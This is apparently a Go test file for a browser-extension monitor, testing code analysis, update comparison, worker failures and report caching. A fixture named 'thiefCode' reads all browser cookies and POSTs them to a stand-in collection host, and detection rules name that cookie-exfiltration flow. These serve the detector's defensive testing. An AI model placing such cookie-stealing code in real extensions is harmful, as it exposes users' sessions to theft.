package agent

import (
	"context"
	"fmt"
	"io"
	"io/fs"
	"os"
	"runtime"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"
	"testing/fstest"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/extwatch/extwatch/manifests"
	"github.com/extwatch/extwatch/signatures"
	"github.com/extwatch/extwatch/signatures/behavior"
	"github.com/extwatch/extwatch/signatures/behavior/analysis"
)

// The test binary is its own worker, and one that misbehaves.
func worker(how string) int {
	var out io.Writer = os.Stdout
	switch how {
	case "dies":
		out = &dying{}
	case "mute":
		return 1
	}
	if err := analysis.Serve(os.Stdin, out); err != nil {
		return 1
	}
	return 0
}

// A dying worker speaks once, then ends.
type dying struct{ n int }

func (d *dying) Write(p []byte) (int, error) {
	if d.n++; d.n > 20 {
		os.Exit(3)
	}
	return os.Stdout.Write(p)
}

// A counter counts what is analysed: each report is put once. It forgets all.
type counter struct{ puts *atomic.Int32 }

func (counter) GetAnalysis(context.Context, string, string) *behavior.Report { return nil }

func (c counter) PutAnalysis(context.Context, string, string, *behavior.Report) { c.puts.Add(1) }

// A folder is the files of an extension.
type folder struct{ fs.FS }

func (folder) Close() error                  { return nil }
func (folder) Problems() []manifests.Problem { return nil }

func newTestAnalyst(t testing.TB, how string) (a *Analyst, analysed *atomic.Int32) {
	t.Helper()
	exe, err := os.Executable()
	must(t, err)
	a = NewAnalyst(2, []string{exe, "analyze", how}, "test")
	analysed = &atomic.Int32{}
	a.Remember(counter{analysed})
	t.Cleanup(a.Close)
	return a, analysed
}

// withCode lets the machine's agent analyse code.
func (m *machine) withCode(how string) (analysed *atomic.Int32) {
	m.t.Helper()
	rules, err := signatures.Load(fstest.MapFS{
		"techniques/bad-permission.yml": rule("bad-permission", 1, "permissions: debugger", "permissions: [debugger]"),
		"techniques/bad-flow.yml":       rule("bad-flow", 2, "flow.source: cookies", "flows: ['cookies -> fetch -> collect.example']"),
		"techniques/gained.yml":         rule("gained", 3, "gained|contains: 'contact: '", "contacts: [collect.example], previous: {contacts: [api.example]}"),
		"indicators/files.csv":          {Data: []byte("sha256,campaign,verdict,source,note\n" + strings.Repeat("0", 64) + ",none,malicious,https://tests.example/,none\n")},
	})
	must(m.t, err)
	m.cfg.Rules = rules
	m.cfg.Analyst, analysed = newTestAnalyst(m.t, how)
	return analysed
}

const (
	honestCode = `chrome.cookies.getAll({}, (all) => { self.count = all.length; }); fetch("https://api.example/prices");`
	thiefCode  = `chrome.cookies.getAll({}, (all) => fetch("https://collect.example/", {method: "POST", body: JSON.stringify(all)}));`
)

func codeExtension(version, script string, permissions ...string) files {
	return extension("Thing", version, script, append([]string{"cookies", "https://*/*"}, permissions...)...)
}

// What the code does is told after the first verdict, once.
func TestCode(t *testing.T) {
	m := newMachine(t)
	m.withCode("")
	p := m.profile("ada", "Default")
	m.start()
	m.exactly("ready")
	f := codeExtension("1.0", thiefCode, "debugger")
	p.install("a", "1.0", f)
	m.exactly("new a 1.0", "warning a 1.0 bad-permission", "warning a 1.0 bad-flow", "judged a 1.0")
	p.prefs(settings{id("a"): entry("a", "1.0", f, nil)})
	m.exactly()
	m.agent.Swap(testRules(t))
	m.exactly("judged a 1.0")
}

// The same content is analysed once, in however many profiles it is, and again when it returns.
func TestCodeOnce(t *testing.T) {
	m := newMachine(t, "bob")
	analysed := m.withCode("")
	ada, bob := m.profile("ada", "Default"), m.profile("bob", "Default")
	f := codeExtension("1.0", thiefCode)
	ada.install("a", "1.0", f)
	bob.install("a", "1.0", f)
	bob.install("b", "1.0", codeExtension("1.0", honestCode))
	m.start()
	m.wait("judged a 1.0", "judged b 1.0")
	bob.install("c", "1.0", f)
	m.wait("judged c 1.0")
	m.wait("warning c 1.0 bad-flow")
	if n := analysed.Load(); n != 2 {
		t.Errorf("analysed %d times, want 2", n)
	}
}

// An update is compared with the version before, also when both arrive before either has been analysed.
func TestCodeGained(t *testing.T) {
	for _, wait := range []bool{true, false} {
		t.Run(fmt.Sprint("analysed before ", wait), func(t *testing.T) {
			m := newMachine(t)
			m.withCode("")
			p := m.profile("ada", "Default")
			v1, v2 := codeExtension("1.0", honestCode), codeExtension("1.1", thiefCode)
			p.install("a", "1.0", v1)
			p.prefs(settings{id("a"): entry("a", "1.0", v1, nil)})
			m.start()
			if wait {
				m.wait("judged a 1.0")
			}
			p.install("a", "1.1", v2)
			m.wait("changed a 1.1", "judged a 1.1")
			m.told("gained", 1)
			m.told("bad-flow", 1)
			p.prefs(settings{id("a"): entry("a", "1.1", v2, nil)})
			must(t, os.RemoveAll(p.version("a", "1.0")))
			m.told("gained", 1)
		})
	}
}

// told waits until a rule was warned of so often, and insists that it stays so.
func (m *machine) told(rule string, times int) {
	m.t.Helper()
	count := func() (n int) {
		for _, line := range m.seen() {
			if strings.HasPrefix(line, "warning") && strings.Contains(line+" ", " "+rule+" ") {
				n++
			}
		}
		return n
	}
	for end := time.Now().Add(10 * time.Second); count() < times && time.Now().Before(end); {
		time.Sleep(5 * time.Millisecond)
	}
	time.Sleep(300 * time.Millisecond)
	if n := count(); n != times {
		m.t.Fatalf("warned %d times of %s, want %d; seen: %q", n, rule, times, m.seen())
	}
}

// Code that changes in place is analysed again.
func TestCodeChangedInPlace(t *testing.T) {
	m := newMachine(t)
	m.withCode("")
	p := m.profile("ada", "Default")
	dir := m.home + "/dev"
	m.cfg.Sweep = 2 * time.Second // nothing else tells of a write below a subfolder
	codeExtension("1.0", honestCode).write(t, dir)
	p.prefs(settings{id("a"): {"location": 4, "path": dir, "disable_reasons": []int{}}})
	m.start()
	m.exactly("found a 1.0", "ready", "judged a 1.0")
	must(t, os.WriteFile(dir+"/sub/worker.js", []byte(thiefCode), 0o644))
	m.exactly("warning a 1.0 bad-flow", "judged a 1.0")
}

// A worker that dies costs that extension, and is told in what is thought of it; one that never speaks is a problem.
func TestCodeWorkers(t *testing.T) {
	t.Run("dies", func(t *testing.T) {
		m := newMachine(t)
		m.withCode("dies")
		p := m.profile("ada", "Default")
		f := codeExtension("1.0", thiefCode)
		for i := range 30 {
			f[fmt.Sprintf("f%d.js", i)] = thiefCode
		}
		p.install("a", "1.0", f)
		m.start()
		m.wait("judged a 1.0")
		for _, e := range m.events {
			if e.Kind == Judged && (e.Code.Complete || !strings.Contains(fmt.Sprint(e.Result.Problems), "had to be stopped")) {
				t.Errorf("complete %v, problems %v", e.Code.Complete, e.Result.Problems)
			}
		}
	})
	t.Run("mute", func(t *testing.T) {
		m := newMachine(t)
		m.withCode("mute")
		p := m.profile("ada", "Default")
		p.install("a", "1.0", codeExtension("1.0", thiefCode, "debugger"))
		m.start()
		for end := time.Now().Add(10 * time.Second); !strings.Contains(strings.Join(m.seen(), "\n"), "problem what its code does is not known"); {
			if time.Now().After(end) {
				t.Fatalf("seen: %q", m.seen())
			}
			time.Sleep(5 * time.Millisecond)
		}
		m.wait("found a 1.0", "warning a 1.0 bad-permission")
	})
}

// Workers end when they have nothing to do, and start again.
func TestAnalystIdle(t *testing.T) {
	t.Parallel()
	a, _ := newTestAnalyst(t, "")
	a.idle = 20 * time.Millisecond
	dir := t.TempDir()
	codeExtension("1.0", thiefCode).write(t, dir)
	e := &manifests.Extension{Path: dir, Open: func() (manifests.Files, error) { return folder{os.DirFS(dir)}, nil }}
	for range 2 {
		report, err := a.Analyze(t.Context(), e, nil)
		must(t, err)
		if len(report.Flows) == 0 {
			t.Error("no flow was found")
		}
		for end := time.Now().Add(10 * time.Second); ; time.Sleep(5 * time.Millisecond) {
			a.mu.Lock()
			idle := a.crew == nil
			a.mu.Unlock()
			if idle {
				break
			}
			if time.Now().After(end) {
				t.Fatal("the workers are still there")
			}
		}
	}
}

func TestRecent(t *testing.T) {
	t.Parallel()
	small := func(n int) *behavior.Report { return &behavior.Report{Strings: []string{strings.Repeat("x", n)}} }
	r := newRecent(2000)
	held := small(300)
	r.put("held", held)
	for _, key := range []string{"a", "b", "c"} {
		r.put(key, small(300))
	}
	r.get("a")
	r.put("giant", small(5000))
	for _, key := range []string{"d", "e"} {
		r.put(key, small(300))
	}
	runtime.GC() // what nobody uses is known until then
	got := map[string]bool{}
	for _, key := range []string{"a", "b", "c", "d", "e", "giant", "held"} {
		got[key] = r.get(key) != nil
	}
	want := map[string]bool{"a": true, "b": false, "c": true, "d": true, "e": true, "giant": false, "held": true}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("kept (-want +got):\n%s", diff)
	}
	if r.used > r.most || len(r.items) != r.order.Len() {
		t.Errorf("%d of %d bytes, %d items, %d in order", r.used, r.most, len(r.items), r.order.Len())
	}
	if r.items["held"] != nil {
		t.Error("what is held by others takes room of the rest")
	}
	runtime.KeepAlive(held)
}

func TestRecentForgets(t *testing.T) {
	t.Parallel()
	r := newRecent(2000)
	for n := range 8 * sweepFrom {
		if n%(sweepFrom/4) == 0 {
			runtime.GC()
		}
		r.put(strconv.Itoa(n), &behavior.Report{})
	}
	if len(r.shared) > 3*sweepFrom {
		t.Errorf("%d reports are known that nobody uses", len(r.shared))
	}
}
